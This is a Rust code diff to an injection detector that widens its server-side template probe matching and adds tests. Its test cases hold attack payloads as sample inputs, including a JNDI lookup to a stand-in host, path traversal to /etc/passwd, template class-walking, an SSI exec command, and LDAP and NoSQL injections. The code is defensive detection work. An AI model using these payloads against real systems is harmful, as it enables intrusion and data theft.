@@ -111,7 +111,6 @@ const MARKERS: &[(&str, &str)] = &[
     ("<?php", "php"),
     ("<?=", "php"),
     ("<%=", "template"),
-    ("{{7*7}}", "template"),
     (".__class__", "template"),
     ("__globals__", "template"),
     ("__proto__", "node"),
@@ -140,8 +139,46 @@ const MARKERS: &[(&str, &str)] = &[
     ("\nhttp/1.", "crlf"),
 ];
 
-/// The first [`MARKERS`] entry in `text`.
+/// A template arithmetic probe: `{{7*7}}`, `${7*7}`, `#{7*7}`, `*{7*7}`,
+/// `<%= 7*7 %>` — an opener, a product or sum of two numbers, a closer.
+fn template_probe(text: &[u8]) -> bool {
+    const OPENERS: [&[u8]; 5] = [b"{{", b"${", b"#{", b"*{", b"<%="];
+    let number = |s: &[u8]| s.iter().take_while(|b| b.is_ascii_digit()).count();
+    let spaces = |s: &[u8]| s.iter().take_while(|b| **b == b' ').count();
+    (0..text.len()).any(|i| {
+        OPENERS.iter().any(|open| {
+            let Some(mut rest) = text[i..].strip_prefix(*open) else {
+                return false;
+            };
+            rest = &rest[spaces(rest)..];
+            let a = number(rest);
+            if a == 0 {
+                return false;
+            }
+            rest = &rest[a..];
+            rest = &rest[spaces(rest)..];
+            let Some(after) = rest.strip_prefix(b"*").or_else(|| rest.strip_prefix(b"+")) else {
+                return false;
+            };
+            rest = &after[spaces(after)..];
+            let b = number(rest);
+            b > 0 && {
+                let tail = &rest[b..];
+                let tail = &tail[spaces(tail)..];
+                tail.starts_with(b"}") || tail.starts_with(b"%>")
+            }
+        })
+    })
+}
+
+/// The first [`MARKERS`] entry in `text`, or a template probe.
 fn marker(text: &[u8]) -> Option<Detection> {
+    if template_probe(text) {
+        return Some(Detection {
+            context: "base64+marker",
+            detail: "template: arithmetic probe".to_string(),
+        });
+    }
     let lower = text.to_ascii_lowercase();
     MARKERS.iter().find_map(|&(m, family)| {
         lower
@@ -228,6 +265,9 @@ mod tests {
             ("../../../../etc/passwd", "base64+path"),
             ("${jndi:ldap://evil.example/a}", "base64+marker"),
             ("{{''.__class__.__mro__[1]}}", "base64+marker"),
+            ("${7*7}", "base64+marker"),
+            ("#{ 7 * 191 }", "base64+marker"),
+            ("<%= 7*7 %>", "base64+marker"),
             ("<!--#exec cmd=\"id\" -->", "base64+marker"),
             ("*)(uid=*))(|(uid=*", "base64+marker"),
             ("{\"$ne\": null}", "base64+marker"),
@@ -275,6 +315,7 @@ mod tests {
             "/static/js/app.4f3a2b1c.js",
             "the quick brown fox jumps over the lazy dog",
             "Lorem ipsum dolor sit amet consectetur",
+            "cHJpY2U6ICR7cHJpY2V9ICsgNSUgVkFU", // price: ${price} + 5% VAT
             "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
         ];
         for v in benign {
